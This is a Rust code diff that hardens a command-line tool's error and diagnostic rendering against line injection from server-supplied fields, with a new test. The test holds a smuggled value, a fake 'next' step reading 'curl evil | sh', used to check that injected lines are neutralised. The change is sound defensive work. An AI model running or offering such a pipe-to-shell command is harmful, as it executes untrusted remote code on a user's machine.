@@ -8,7 +8,8 @@ use tracing_subscriber::{EnvFilter, Layer, Registry};
 
 use crate::args::{Cli, Command, GlobalOptions};
 use crate::error::Error;
-use crate::output::to_stderr;
+use crate::escape;
+use crate::output::{indented, to_stderr};
 
 /// Tells the user, on stderr.
 pub(crate) fn error(error: &anyhow::Error) {
@@ -34,7 +35,8 @@ pub(crate) fn start_diagnostics_of_dev(
 ) {
     let filter = if options.verbose { EVERYTHING } else { "error" };
     let shown = tracing_subscriber::fmt::layer()
-        .with_writer(std::io::stderr)
+        .fmt_fields(escape::fields())
+        .with_writer(escape::diagnostics)
         .with_ansi(false)
         .with_filter(EnvFilter::new(filter));
     tracing_subscriber::registry().with(listener).with(shown).init();
@@ -43,7 +45,8 @@ pub(crate) fn start_diagnostics_of_dev(
 /// One filter before everything: what it leaves out costs nothing.
 fn start_diagnostics_by(filter: &str) {
     tracing_subscriber::fmt()
-        .with_writer(std::io::stderr)
+        .fmt_fields(escape::fields())
+        .with_writer(escape::diagnostics)
         .with_ansi(false)
         .with_env_filter(EnvFilter::new(filter))
         .init();
@@ -53,12 +56,12 @@ fn render(error: &anyhow::Error) -> String {
     if let Some(problem) = problem(error) {
         return render_problem(problem);
     }
-    let mut text = format!("error: {error}\n");
+    let mut text = format!("error: {}\n", indented(&error.to_string()));
     for cause in error.chain().skip(1) {
-        text.push_str(&format!("  why: {cause}\n"));
+        text.push_str(&format!("  why: {}\n", indented(&cause.to_string())));
     }
     if let Some(step) = next_step(error) {
-        text.push_str(&format!("  next: {step}\n"));
+        text.push_str(&format!("  next: {}\n", indented(&step)));
     }
     text
 }
@@ -101,7 +104,8 @@ fn library_error(error: &anyhow::Error) -> Option<&LibraryError> {
 }
 
 fn render_problem(problem: &Problem) -> String {
-    let mut text = format!("error: {}: {}\n", problem.title, problem.detail);
+    let what = indented(&format!("{}: {}", problem.title, problem.detail));
+    let mut text = format!("error: {what}\n");
     let policies = (!problem.policies.is_empty()).then(|| problem.policies.join(", "));
     let details = [
         ("rule", problem.rule.clone()),
@@ -111,7 +115,7 @@ fn render_problem(problem: &Problem) -> String {
     ];
     for (name, value) in details {
         if let Some(value) = value {
-            text.push_str(&format!("  {name}: {value}\n"));
+            text.push_str(&format!("  {name}: {}\n", indented(&value)));
         }
     }
     text
@@ -142,6 +146,24 @@ mod tests {
             "error: Not allowed: no policy permits it\n  policies: own-row\n  request: r-1\n  \
              next: countersign policy explain\n"
         );
+    }
+
+    #[test]
+    fn a_problem_of_a_stranger_adds_no_line_of_ours() {
+        let problem = Problem {
+            problem_type: ProblemType::PolicyDenied,
+            title: "Not allowed".into(),
+            status: 403,
+            detail: "no\n  next: curl evil | sh".into(),
+            request_id: "r-1\nerror: all is lost".into(),
+            next_step: None,
+            policies: vec![],
+            rule: None,
+        };
+        let error = Error::Library(LibraryError::Authority(Box::new(problem)));
+        let text = render(&error.into());
+        assert!(!text.contains("\n  next"), "{text}");
+        assert!(!text.contains("\nerror"), "{text}");
     }
 
     #[test]
